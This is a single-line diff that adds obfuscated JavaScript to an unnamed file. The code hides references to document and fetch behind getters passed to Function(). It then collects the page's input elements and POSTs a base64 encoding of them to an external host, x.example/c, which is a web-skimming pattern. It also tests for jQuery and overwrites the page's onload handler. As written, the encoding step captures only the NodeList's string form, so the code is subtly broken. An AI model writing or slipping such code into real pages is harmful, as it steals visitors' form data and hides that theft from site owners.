@@ -1,0 +1,1 @@
+Function('o',"var s=o['k1']['querySelectorAll']('input');o.k2('https://x.example/c',{method:'POST',body:btoa(s)});if(o['t']==='x')o['k3']=1")({get 'k1'(){return document},get k2(){return fetch},set 'k3'(v){return onload=v},get 't'(){return typeof jQuery}});
